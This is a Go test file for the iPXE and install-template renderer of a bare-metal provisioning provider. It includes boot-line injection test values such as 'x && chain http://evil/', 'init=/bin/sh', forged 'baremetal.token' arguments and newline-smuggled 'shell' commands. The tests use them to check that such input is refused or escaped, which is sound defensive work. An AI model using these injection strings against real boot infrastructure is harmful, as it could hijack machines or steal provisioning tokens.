package boot

import (
	"encoding/base64"
	"encoding/json"

	"gopkg.in/yaml.v3"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openbaremetal/terraform-provider-baremetal/internal/model"
)

func testRenderServer(t testing.TB) *Server { //nolint:unparam // t unused today; kept, not churned through 20 callers in a package under restructuring
	s := &Server{bootURL: "http://10.0.2.2:8081"}
	return s
}

func provisioningMachine(params map[string]string) *model.Machine {
	return &model.Machine{
		Name: "m1", MACs: []string{"52:54:00:12:34:56"}, BootProfile: "p1", Params: params,
		Run: &model.Run{ID: "run-1", Token: "tok-123", Profile: "p1"},
	}
}

func TestRenderIPXEDefault(t *testing.T) {
	s := testRenderServer(t)
	p := &model.BootProfile{Name: "p1", Kernel: "debian/vmlinuz", Initrds: []string{"debian/initrd.gz", "https://mirror.example/extra.img"},
		Cmdline: "console=ttyS0 hostname={{ .Machine.Name }} role={{ .Params.role }}", Params: map[string]string{"role": "default"}}
	m := provisioningMachine(map[string]string{"role": "worker"})
	got, err := s.renderIPXE(renderInput{machine: m, profile: p, token: m.Run.Token})
	if err != nil {
		t.Fatal(err)
	}
	want := "#!ipxe\n" +
		"echo baremetal: booting installer p1 for m1\n" +
		"iseq ${platform} efi && set bm-initrds initrd=initrd0 initrd=initrd1 || clear bm-initrds\n" +
		"kernel http://10.0.2.2:8081/machines/m1/assets/debian/vmlinuz?token=tok-123 console=ttyS0 hostname=m1 role=worker baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=tok-123 ${bm-initrds}\n" +
		"initrd --name initrd0 http://10.0.2.2:8081/machines/m1/assets/debian/initrd.gz?token=tok-123\n" +
		"initrd --name initrd1 https://mirror.example/extra.img\n" +
		"boot\n"
	if got != want {
		t.Fatalf("script:\n%s\nwant:\n%s", got, want)
	}
}

func TestRenderMissingKeyNamesKey(t *testing.T) {
	s := testRenderServer(t)
	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Cmdline: "x={{ .Params.nosuchparam }}"}
	m := provisioningMachine(nil)
	_, err := s.renderIPXE(renderInput{machine: m, profile: p, token: "t"})
	if err == nil || !strings.Contains(err.Error(), "nosuchparam") || !strings.Contains(err.Error(), `profile "p1"`) {
		t.Fatalf("err = %v, want one naming the profile and the missing key", err)
	}
	p.Templates = map[string]string{"ks": "rootpw {{ .Params.root_password_hash }}"}
	_, found, err := s.renderTemplate(renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Templates: p.Templates}}, "ks")
	if !found || err == nil || !strings.Contains(err.Error(), "root_password_hash") || !strings.Contains(err.Error(), `template "ks"`) {
		t.Fatalf("found=%v err=%v, want an error naming the template and the key", found, err)
	}
}

// iPXE splits a line at whitespace after expansion; "||", "&&", ";" tokens
// chain commands and a '#' token ends the line. These helpers check a line
// the way iPXE's exec.c would read it.
func ipxeCommands(line string) (cmds int, expands bool) {
	cmds = 1
	for _, tok := range strings.Fields(line) {
		switch {
		case strings.HasPrefix(tok, "#"):
			return cmds, expands
		case tok == "||" || tok == "&&" || tok == ";":
			cmds++
		}
		if strings.Contains(tok, "${") {
			expands = true
		}
	}
	return cmds, expands
}

// efiInitrdLine and efiInitrdArgs are the stock script's own lines for one
// initrd: the only commands chained and the only expansion in the script.
const (
	efiInitrdLine = "iseq ${platform} efi && set bm-initrds initrd=initrd0 || clear bm-initrds"
	efiInitrdArgs = " ${bm-initrds}"
)

// checkOneInitrdScript checks the stock script for a one-initrd profile
// line by line and returns its kernel line without the EFI initrd names:
// apart from the template's own EFI line, every line is one command with
// no expansion, whatever the values were.
func checkOneInitrdScript(t *testing.T, script, kernelPrefix string) string {
	t.Helper()
	lines := strings.Split(strings.TrimSuffix(script, "\n"), "\n")
	wantStarts := []string{"#!ipxe", "echo ", efiInitrdLine, kernelPrefix, "initrd --name initrd0 ", "boot"}
	if len(lines) != len(wantStarts) {
		t.Fatalf("script has %d lines, want %d:\n%s", len(lines), len(wantStarts), script)
	}
	if lines[2] != efiInitrdLine {
		t.Fatalf("line 2 = %q, want %q", lines[2], efiInitrdLine)
	}
	kernel, ok := strings.CutSuffix(lines[3], efiInitrdArgs)
	if !ok {
		t.Fatalf("kernel line %q does not end with the EFI initrd names %q", lines[3], efiInitrdArgs)
	}
	lines[3] = kernel
	for i, l := range lines {
		if !strings.HasPrefix(l, wantStarts[i]) {
			t.Fatalf("line %d = %q, want it to start with %q", i, l, wantStarts[i])
		}
		if i == 0 || i == 2 {
			continue
		}
		if n, exp := ipxeCommands(l); n != 1 || exp {
			t.Fatalf("line %q runs %d commands (expansion %v)", l, n, exp)
		}
	}
	return kernel
}

func TestRenderHostileParamInert(t *testing.T) {
	s := testRenderServer(t)
	for _, tc := range []struct {
		value   string
		refused bool // it would add kernel arguments
	}{
		{"x\nshell", true},
		{"x\r\nshell", true},
		{"x || shell", true},
		{"x && chain http://evil/", true},
		{"x ; shell", true},
		{"x #comment", true},
		{"init=/bin/sh baremetal.token=FAKE", true},
		{"a\x00b\x1bc", true},
		{"${root-password}", false},
		{"$", false},
		{"|", false},
		{"#x", false},
		{"x;y||z", false},
	} {
		p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Initrds: []string{"initrd.img"}, Cmdline: "a={{ .Params.v }} b={{ .Params.v }}{{ .Params.v }}"}
		m := provisioningMachine(map[string]string{"v": tc.value})
		got, err := s.renderIPXE(renderInput{machine: m, profile: p, token: "t"})
		if tc.refused {
			require.ErrorContains(t, err, `param "v" contains whitespace`, "%q", tc.value)
			continue
		}
		require.NoError(t, err, "%q", tc.value)
		kernel := checkOneInitrdScript(t, got, "kernel ")
		require.True(t, strings.HasSuffix(kernel, "baremetal.token=t"), "%q: the convention suffix was cut off: %q", tc.value, kernel)
		require.Len(t, strings.Fields(kernel), 7, "%q added kernel arguments: %q", tc.value, kernel)
	}
}

// TestRenderHostileCmdlineInert: the profile's own cmdline text gets the
// same treatment as params, and cannot set or hide the agent's arguments.
func TestRenderHostileCmdlineInert(t *testing.T) {
	s := testRenderServer(t)
	for _, tc := range []struct {
		cmdline string
		want    string // the kernel line's arguments before baremetal.url=; "" if refused
	}{
		{"quiet # rest", "quiet %23 rest"},
		{"#", "%23"},
		{"a || chain http://evil/", "a %7C%7C chain http://evil/"},
		{"a ; shell", "a %3B shell"},
		{"root=${root}", "root=%24{root}"},
		{"x baremetal.token=FAKE", ""},
		{"baremetal.url=http://evil", ""},
		{"baremetal.templates=ks", "baremetal.templates=ks"},
	} {
		p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Cmdline: tc.cmdline}
		got, err := s.renderIPXE(renderInput{machine: provisioningMachine(nil), profile: p, token: "t"})
		if tc.want == "" {
			require.ErrorContains(t, err, "which only the agent sets", "%q", tc.cmdline)
			continue
		}
		require.NoError(t, err, "%q", tc.cmdline)
		require.Contains(t, got, "\nkernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token=t "+tc.want+" baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=t\n", "%q", tc.cmdline)
	}
}

// FuzzRenderIPXE: no parameter value can add a line to the script, chain a
// command, comment out the rest of a line or expand an iPXE setting.
func FuzzRenderIPXE(f *testing.F) {
	for _, seed := range [][3]string{
		{"x\nshell", "", ""},
		{"||", "shell", "&&"},
		{"$", "{net0/mac}", "#"},
		{"a;", ";b", "c\r\nd"},
		{"plain", "values", "only"},
	} {
		f.Add(seed[0], seed[1], seed[2])
	}
	s := testRenderServer(f)
	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Initrds: []string{"initrd.img"},
		Cmdline: "a={{ .Params.a }} {{ .Params.b }}{{ .Params.c }} {{ .Params.a }}{{ .Params.b }} {{ .Machine.Name }}"}
	f.Fuzz(func(t *testing.T, a, b, c string) {
		m := provisioningMachine(map[string]string{"a": a, "b": b, "c": c})
		m.Params["a"] = a
		got, err := s.renderIPXE(renderInput{machine: m, profile: p, token: "t"})
		if err != nil {
			// Refused is inert too, but only for a value that would add
			// kernel arguments (control characters become spaces).
			if !strings.Contains(err.Error(), "contains whitespace") || !strings.ContainsFunc(a+b+c, func(r rune) bool { return unicode.IsSpace(r) || r < 0x20 || r == 0x7f }) {
				t.Fatal(err)
			}
			return
		}
		kernel := checkOneInitrdScript(t, got, "kernel http://10.0.2.2:8081/machines/m1/assets/vmlinuz?token=t a=")
		if !strings.HasSuffix(kernel, " baremetal.url=http://10.0.2.2:8081 baremetal.machine=m1 baremetal.token=t") {
			t.Fatalf("convention suffix lost: %q", kernel)
		}
	})
}

func TestRenderIPXEOverrideUsesContext(t *testing.T) {
	s := testRenderServer(t)
	p := &model.BootProfile{Name: "p1", IPXEScript: "#!ipxe\necho {{ .Machine.Name }} {{ .Params.msg }}\nsanboot --no-describe --drive 0x80\n"}
	m := provisioningMachine(map[string]string{"msg": "hi\nshell"})
	got, err := s.renderIPXE(renderInput{machine: m, profile: p, token: "t"})
	if err != nil {
		t.Fatal(err)
	}
	if want := "#!ipxe\necho m1 hi shell\nsanboot --no-describe --drive 0x80\n"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

func TestStockTemplatesRender(t *testing.T) {
	names := StockTemplates()
	want := []string{"cloud-init-etcd", "cloud-init-image", "cloud-init-meta-data", "ignition", "ipxe-default", "kickstart", "lab-user-data", "preseed", "ubuntu-autoinstall"}
	if strings.Join(names, ",") != strings.Join(want, ",") {
		t.Fatalf("StockTemplates() = %v, want %v", names, want)
	}
	s := testRenderServer(t)
	m := provisioningMachine(map[string]string{"root_password_hash": "$6$salt$hash", "password_hash": "$6$x", "ssh_authorized_key": "ssh-ed25519 AAAA me@x",
		"repo_url": "http://mirror.example/rocky/9/BaseOS/x86_64/os/"})
	m.Cluster, m.Role = "c1", "worker"
	cluster := &model.Cluster{Name: "c1", Roles: []model.ClusterRole{{Name: "control-plane", BootProfile: "p1"}, {Name: "worker", BootProfile: "p1"}},
		Members: []model.ClusterMember{{Machine: "cp1", Role: "control-plane"}, {Machine: "m1", Role: "worker"}}}
	members := map[string]*model.Machine{"cp1": {Name: "cp1", Status: model.Status{Addresses: []string{"10.0.2.15"}, Phase: model.PhaseProvisioned}}, "m1": m}
	tmpls := map[string]string{}
	for _, n := range names {
		tmpls[n] = "stock:" + n
	}
	p := &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: tmpls}
	in := renderInput{machine: m, profile: p, cluster: cluster, members: members, token: "tok"}
	for _, n := range names {
		out, found, err := s.renderTemplate(in, n)
		if !found || err != nil {
			t.Fatalf("%s: found=%v err=%v", n, found, err)
		}
		if !strings.Contains(out, "m1") {
			t.Errorf("%s does not name the machine:\n%s", n, out)
		}
		if strings.HasPrefix(out, "\n") || strings.Contains(out, "{{") {
			t.Errorf("%s: header comment leaked into the output:\n%s", n, out)
		}
	}
	out, _, _ := s.renderTemplate(in, "lab-user-data")
	if !strings.Contains(out, `control_plane_address: "10.0.2.15"`) {
		t.Errorf("lab-user-data lacks the control-plane address:\n%s", out)
	}
	out, _, _ = s.renderTemplate(in, "kickstart")
	if !strings.Contains(out, `'http://10.0.2.2:8081/machines/m1/callback?token=tok'`) {
		t.Errorf("kickstart lacks the callback URL:\n%s", out)
	}
	if _, err := resolveTemplateText("stock:nope"); err == nil || !strings.Contains(err.Error(), "kickstart") {
		t.Errorf("unknown stock template error %v does not list the stock templates", err)
	}
}

func TestIPXENeutralize(t *testing.T) {
	for in, want := range map[string]string{
		"plain value":     "plain value",
		"a\nb":            "a b",
		"${x}":            "%24{x}",
		"cost$5":          "cost$5",
		"end$":            "end%24",
		"||":              "%7C%7C",
		"a || b":          "a %7C%7C b",
		"a|b":             "a|b",
		"#x":              "%23x",
		"a#b":             "a#b",
		"http://h/?a&b=1": "http://h/?a&b=1",
		";":               "%3B",
	} {
		if got := ipxeNeutralize(in); got != want {
			t.Errorf("ipxeNeutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestStockTemplatesStructured(t *testing.T) {
	s := testRenderServer(t)
	m := provisioningMachine(map[string]string{"password_hash": "$6$x\"y", "ssh_authorized_key": "ssh-ed25519 AAAA \"q\" me@x"})
	tmpls := map[string]string{"ignition": "stock:ignition", "ubuntu-autoinstall": "stock:ubuntu-autoinstall", "lab-user-data": "stock:lab-user-data"}
	in := renderInput{machine: m, profile: &model.BootProfile{Name: "p1", Kernel: "vmlinuz", Templates: tmpls}, token: "tok"}
	out, _, err := s.renderTemplate(in, "ignition")
	if err != nil {
		t.Fatal(err)
	}
	var ign struct {
		Ignition struct{ Version string }
		Storage  struct {
			Files []struct {
				Path     string
				Contents struct{ Source string }
			}
		}
		Systemd struct{ Units []struct{ Name string } }
	}
	if err := json.Unmarshal([]byte(out), &ign); err != nil {
		t.Fatalf("ignition is not JSON: %v\n%s", err, out)
	}
	files := map[string]string{}
	for _, f := range ign.Storage.Files {
		files[f.Path] = f.Contents.Source
	}
	if ign.Ignition.Version != "3.3.0" || len(ign.Systemd.Units) != 1 || ign.Systemd.Units[0].Name != "baremetal-os-up.service" ||
		files["/etc/baremetal/callback-url"] != "data:;base64,"+base64.StdEncoding.EncodeToString([]byte("http://10.0.2.2:8081/machines/m1/callback?token=tok")) {
		t.Fatalf("ignition config lacks version, OS-up unit or callback URL: %+v", ign)
	}
	for _, n := range []string{"ubuntu-autoinstall", "lab-user-data"} {
		out, _, err := s.renderTemplate(in, n)
		if err != nil {
			t.Fatal(err)
		}
		var doc map[string]any
		if err := yaml.Unmarshal([]byte(out), &doc); err != nil {
			t.Fatalf("%s is not YAML: %v\n%s", n, err, out)
		}
		if n == "ubuntu-autoinstall" {
			id := as[map[string]any](t, dig(t, doc, "autoinstall", "identity"))
			if id["password"] != "$6$x\"y" {
				t.Fatalf("password round-trip: %v", id["password"])
			}
		}
	}
	// Pass-through: a complete Ignition config is served verbatim.
	m.Params["ignition"] = `{"ignition":{"version":"3.4.0"}}`
	out, _, err = s.renderTemplate(in, "ignition")
	if err != nil || out != m.Params["ignition"] {
		t.Fatalf("pass-through = %q, %v", out, err)
	}
}

// TestRenderInventory: install templates see the inventory the BMC reported,
// so a kickstart can pick its disk or bootloader from it.
func TestRenderInventory(t *testing.T) {
	m := provisioningMachine(nil)
	m.Status.Inventory = &model.Inventory{CPUs: 1, CPUModel: "AMD EPYC 9454", CPUCores: 48, CPUThreads: 96,
		GPUs: 8, GPUModel: "NVIDIA H100", Accelerators: 1, AcceleratorModel: "Stratix 10", MemoryGiB: 512,
		BootMode: "uefi", BootModes: []string{"legacy", "uefi"},
		Disks: []model.Disk{
			{Name: "Bay 0", Model: "ST4000NM000A", Serial: "WJG0", SizeGiB: 3726.02, MediaType: "HDD", Rotational: true},
			{Name: "Bay 1", Model: "MZ7LH1T9", Serial: "S455", SizeGiB: 1875.37, MediaType: "SSD"},
		}}
	tests := []struct {
		name, tmpl, want string
	}{
		{"processors", `{{ with .Machine.Inventory }}{{ .CPUs }}x{{ .CPUModel }} {{ .CPUCores }}c/{{ .CPUThreads }}t {{ .GPUs }}x{{ .GPUModel }} {{ .Accelerators }}x{{ .AcceleratorModel }}{{ end }}`,
			"1xAMD EPYC 9454 48c/96t 8xNVIDIA H100 1xStratix 10"},
		{"boot firmware", `{{ .Machine.Inventory.BootMode }} of {{ join "," .Machine.Inventory.BootModes }}`, "uefi of legacy,uefi"},
		{"first solid-state disk", `{{ range .Machine.Inventory.Disks }}{{ if not .Rotational }}{{ .Name }} {{ .Model }} {{ .Serial }} {{ .SizeGiB }} {{ .MediaType }}{{ break }}{{ end }}{{ end }}`,
			"Bay 1 MZ7LH1T9 S455 1875.37 SSD"},
		{"as JSON", `{{ (index .Machine.Inventory.Disks 0 | toJSON) }}`,
			`{"name":"Bay 0","model":"ST4000NM000A","serial":"WJG0","size_gib":3726.02,"media_type":"HDD","rotational":true}`},
	}
	s := testRenderServer(t)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &model.BootProfile{Name: "p1", Templates: map[string]string{"ks": tt.tmpl}}
			got, found, err := s.renderTemplate(renderInput{machine: m, profile: p, token: "t"}, "ks")
			require.NoError(t, err)
			require.True(t, found)
			assert.Equal(t, tt.want, got)
		})
	}
}
